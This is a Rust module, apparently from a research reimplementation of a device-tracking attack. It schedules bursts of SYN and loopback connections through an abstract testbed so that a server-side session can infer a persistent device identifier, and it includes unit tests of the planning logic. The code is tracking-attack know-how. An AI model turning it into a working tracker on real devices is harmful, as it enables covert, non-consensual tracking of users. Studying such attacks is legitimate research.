//! Client-side attack logic expressed as rounds of connection attempts.
//!
//! The client never reads kernel state. A [`Testbed`] executes rounds on the
//! device and hands back whatever the network delivered; all inference runs
//! through [`ServerSession`].

use serde::{Deserialize, Serialize};

use crate::server::{DeviceId, Phase2Step, PortPool, ServerError, ServerSession, SynObservation, Transcript};

/// First loopback destination port.
pub const LOOPBACK_BASE_PORT: u16 = 443;

/// One connection attempt issued by the client.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Action {
    /// SYN to the tracking server on this destination port.
    Syn(u16),
    /// `count` connects to the loopback destination on `port`.
    Loopback { port: u16, count: u32 },
}

/// Actions issued within one logical tick.
pub type Round = Vec<Action>;

/// Executes rounds on a device behind some network.
pub trait Testbed {
    /// Runs one tick; returns the observations delivered during it.
    fn run_round(&mut self, round: &[Action]) -> Vec<SynObservation>;
    /// Delivers anything still in flight (retransmissions).
    fn flush(&mut self) -> Vec<SynObservation>;
    /// Ticks consumed so far.
    fn rounds(&self) -> u64;
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct GroupPlan {
    #[serde(default = "default_alpha")]
    pub alpha: usize,
    #[serde(default = "default_beta")]
    pub beta: u32,
    #[serde(default = "default_groups")]
    pub max_groups: usize,
}

fn default_alpha() -> usize {
    4
}
fn default_beta() -> u32 {
    50
}
fn default_groups() -> usize {
    64
}

impl Default for GroupPlan {
    fn default() -> Self {
        Self { alpha: 4, beta: 50, max_groups: 64 }
    }
}

impl GroupPlan {
    pub fn new(alpha: usize, beta: u32, max_groups: usize) -> Self {
        Self { alpha, beta, max_groups }
    }

    /// Loopback ports of group `g`, in probe order.
    pub fn group_loopbacks(&self, g: usize) -> Vec<u16> {
        (0..self.alpha).map(|i| loopback_port(g * self.alpha + i)).collect()
    }

    pub fn all_loopbacks(&self) -> Vec<Vec<u16>> {
        (0..self.max_groups).map(|g| self.group_loopbacks(g)).collect()
    }

    /// Connects made to loopback `i` of every group.
    pub fn connects_for(&self, i: usize) -> u32 {
        self.beta << i
    }

    /// Loopback connects per group.
    pub fn connects_per_group(&self) -> u32 {
        (0..self.alpha).map(|i| self.connects_for(i)).sum()
    }

    pub fn validate(&self) -> Result<(), String> {
        if !(1..=16).contains(&self.alpha) {
            return Err(format!("alpha {} outside 1..=16", self.alpha));
        }
        if self.beta == 0 || u64::from(self.beta) << self.alpha > u64::from(u32::MAX) {
            return Err(format!("beta {} unusable with alpha {}", self.beta, self.alpha));
        }
        if self.max_groups == 0 {
            return Err("max_groups must be positive".into());
        }
        let last = LOOPBACK_BASE_PORT as usize + self.alpha * self.max_groups - 1;
        if last > u16::MAX as usize {
            return Err(format!("{} loopbacks exceed the port space", self.alpha * self.max_groups));
        }
        Ok(())
    }

    /// Connects for group `g` followed by nothing else.
    pub fn group_actions(&self, g: usize) -> Vec<Action> {
        self.group_loopbacks(g)
            .into_iter()
            .enumerate()
            .map(|(i, port)| Action::Loopback { port, count: self.connects_for(i) })
            .collect()
    }
}

/// Globally fixed loopback enumeration.
pub fn loopback_port(index: usize) -> u16 {
    LOOPBACK_BASE_PORT + index as u16
}

/// Candidate destination ports of iteration `iteration` (1-based): a run of
/// `T - 1` ports starting at `base + (iteration - 1)(T - 1)`. `None` when the
/// run leaves the port space.
pub fn destination_ports(iteration: usize, table_size: usize, base: u16) -> Option<Vec<u16>> {
    if iteration == 0 || table_size < 2 {
        return None;
    }
    let k = table_size - 1;
    let first = base as usize + (iteration - 1) * k;
    let last = first + k - 1;
    (last <= u16::MAX as usize).then(|| (first..=last).map(|p| p as u16).collect())
}

/// One burst: a SYN to each port, split into ticks of at most `capacity`.
pub fn burst_rounds(ports: &[u16], capacity: usize) -> Vec<Round> {
    ports.chunks(capacity.max(1)).map(|c| c.iter().map(|&p| Action::Syn(p)).collect()).collect()
}

/// Leading burst, then per group its loopback connects followed by a burst.
pub fn plan_phase2_bursts(plan: &GroupPlan, s_prime: &[u16]) -> Vec<Round> {
    let burst: Round = s_prime.iter().map(|&p| Action::Syn(p)).collect();
    let mut script = vec![burst.clone()];
    for g in 0..plan.max_groups {
        let mut round = plan.group_actions(g);
        round.extend(burst.iter().copied());
        script.push(round);
    }
    script
}

/// Splits every round so that it carries at most `capacity` SYNs; other
/// actions stay with the first part.
pub fn split_rounds(script: Vec<Round>, capacity: usize) -> Vec<Round> {
    let cap = capacity.max(1);
    let mut out = Vec::with_capacity(script.len());
    for round in script {
        let (syns, rest): (Vec<Action>, Vec<Action>) = round.into_iter().partition(|a| matches!(a, Action::Syn(_)));
        let mut chunks = syns.chunks(cap);
        let mut first = rest;
        first.extend(chunks.next().unwrap_or(&[]).iter().copied());
        out.push(first);
        out.extend(chunks.map(<[Action]>::to_vec));
    }
    out
}

/// Rounds of one unique-cell iteration: candidates, known uniques, candidates.
pub fn plan_phase1_iteration(candidates: &[u16], s_prime: &[u16], capacity: usize) -> Vec<Round> {
    let mut rounds = burst_rounds(candidates, capacity);
    rounds.extend(burst_rounds(s_prime, capacity));
    rounds.extend(burst_rounds(candidates, capacity));
    rounds
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AttackConfig {
    #[serde(default)]
    pub plan: GroupPlan,
    /// SYNs the client sends per tick.
    #[serde(default = "default_capacity")]
    pub burst_capacity: usize,
    /// Give up once a further round would exceed this many ticks.
    #[serde(default)]
    pub round_budget: Option<u64>,
}

fn default_capacity() -> usize {
    1024
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self { plan: GroupPlan::default(), burst_capacity: default_capacity(), round_budget: None }
    }
}

fn budget_error(budget: u64, used: u64, need: u64) -> ServerError {
    ServerError::NoConvergence { reason: format!("round budget {budget} exhausted ({used} used, {need} more needed)") }
}

/// Runs `rounds`, feeding deliveries to the server. `budget` is an absolute
/// tick limit.
fn execute(bed: &mut impl Testbed, session: &mut ServerSession, rounds: &[Round], budget: Option<u64>) -> Result<(), ServerError> {
    if let Some(b) = budget {
        if bed.rounds() + rounds.len() as u64 > b {
            return Err(budget_error(b, bed.rounds(), rounds.len() as u64));
        }
    }
    for r in rounds {
        let obs = bed.run_round(r);
        session.record_all(&obs);
    }
    let late = bed.flush();
    session.record_all(&late);
    Ok(())
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Phase1Outcome {
    pub s_prime: Vec<u16>,
    pub iterations: usize,
}

/// Repeats candidate iterations until every cell holds one known unique
/// destination.
pub fn run_phase1(
    bed: &mut impl Testbed,
    session: &mut ServerSession,
    pool: &mut PortPool,
    config: &AttackConfig,
) -> Result<Phase1Outcome, ServerError> {
    let budget = config.round_budget.map(|b| b + bed.rounds());
    let cap = config.burst_capacity.max(1);
    loop {
        if let Some(b) = budget {
            let k = session.table_size() - 1;
            let need = (2 * k.div_ceil(cap) + session.s_prime().len().div_ceil(cap)) as u64;
            if bed.rounds() + need > b {
                return Err(budget_error(b, bed.rounds(), need));
            }
        }
        let candidates = session.next_candidates(pool)?;
        let rounds = plan_phase1_iteration(&candidates, session.s_prime(), config.burst_capacity);
        execute(bed, session, &rounds, budget)?;
        let round = session.evaluate_phase1(pool)?;
        if round.complete {
            return Ok(Phase1Outcome { s_prime: session.s_prime().to_vec(), iterations: session.iteration() });
        }
    }
}

/// Everything observable about one attack run.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AttackReport {
    pub device_id: Option<DeviceId>,
    pub error: Option<String>,
    pub no_convergence: bool,
    pub phase1_iterations: usize,
    pub groups_sent: usize,
    pub groups_decoded: usize,
    pub reruns: usize,
    pub rounds: u64,
    pub transcript: Transcript,
}

/// Runs both phases against `session` and releases its ports afterwards.
pub fn run_attack(
    bed: &mut impl Testbed,
    mut session: ServerSession,
    pool: &mut PortPool,
    config: &AttackConfig,
) -> AttackReport {
    let start = bed.rounds();
    let mut groups_sent = 0;
    let mut reruns = 0;
    let result = (|| {
        run_phase1(bed, &mut session, pool, config)?;
        let plan = &config.plan;
        session.begin_phase2(plan.all_loopbacks())?;
        let script = split_rounds(plan_phase2_bursts(plan, session.s_prime()), config.burst_capacity);
        let budget = config.round_budget.map(|b| b + start);
        execute(bed, &mut session, &script, budget)?;
        groups_sent = plan.max_groups;
        session.load_phase2_window();
        let mut step = session.advance_phase2()?;
        loop {
            match step {
                Phase2Step::Terminated(id) => return Ok(id),
                Phase2Step::NeedRerun { group, .. } => {
                    reruns += 1;
                    let burst: Round = session.s_prime().iter().map(|&p| Action::Syn(p)).collect();
                    let mut second = plan.group_actions(group);
                    second.extend(burst.iter().copied());
                    let rounds = split_rounds(vec![burst, second], config.burst_capacity);
                    execute(bed, &mut session, &rounds, budget)?;
                    step = session.submit_rerun()?;
                }
            }
        }
    })();
    let phase1_iterations = session.iteration();
    let groups_decoded = session.groups_decoded();
    session.release_all(pool);
    let (device_id, error, no_convergence) = match result {
        Ok(id) => (Some(id), None, false),
        Err(e) => {
            let nc = matches!(e, ServerError::NoConvergence { .. } | ServerError::IterationLimit { .. });
            (None, Some(e.to_string()), nc)
        }
    };
    AttackReport {
        device_id,
        error,
        no_convergence,
        phase1_iterations,
        groups_sent,
        groups_decoded,
        reruns,
        rounds: bed.rounds() - start,
        transcript: session.into_transcript(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn candidate_ranges() {
        let a = destination_ports(1, 256, 1024).unwrap();
        assert_eq!((a[0], *a.last().unwrap(), a.len()), (1024, 1278, 255));
        let b = destination_ports(2, 256, 1024).unwrap();
        assert_eq!((b[0], *b.last().unwrap()), (1279, 1533));
        assert!(destination_ports(1, 65536, 1024).is_none());
        assert!(destination_ports(0, 256, 1024).is_none());
    }

    #[test]
    fn group_connect_counts() {
        assert_eq!(GroupPlan::new(4, 50, 64).connects_per_group(), 750);
        assert_eq!(GroupPlan::new(2, 10, 64).connects_per_group(), 30);
        assert_eq!(GroupPlan::new(1, 1, 1).connects_per_group(), 1);
    }

    #[test]
    fn phase2_script_shape() {
        let plan = GroupPlan::new(1, 1, 1);
        let script = plan_phase2_bursts(&plan, &[2000, 2001]);
        assert_eq!(
            script,
            vec![
                vec![Action::Syn(2000), Action::Syn(2001)],
                vec![Action::Loopback { port: 443, count: 1 }, Action::Syn(2000), Action::Syn(2001)],
            ]
        );
        let plan = GroupPlan::default();
        let script = plan_phase2_bursts(&plan, &[1; 256]);
        assert_eq!(script.len(), 65);
        assert_eq!(plan.group_loopbacks(1), vec![447, 448, 449, 450]);
        assert_eq!(plan_phase2_bursts(&plan, &[5, 6]), plan_phase2_bursts(&plan, &[5, 6]));
    }

    #[test]
    fn split_keeps_loopbacks_first() {
        let round = vec![Action::Syn(1), Action::Loopback { port: 443, count: 3 }, Action::Syn(2), Action::Syn(3)];
        let out = split_rounds(vec![round], 2);
        assert_eq!(
            out,
            vec![vec![Action::Loopback { port: 443, count: 3 }, Action::Syn(1), Action::Syn(2)], vec![Action::Syn(3)]]
        );
        assert_eq!(split_rounds(vec![vec![]], 4), vec![Vec::<Action>::new()]);
    }

    #[test]
    fn burst_splitting() {
        let ports: Vec<u16> = (0..10).collect();
        let r = burst_rounds(&ports, 4);
        assert_eq!(r.iter().map(Vec::len).collect::<Vec<_>>(), vec![4, 4, 2]);
    }
}
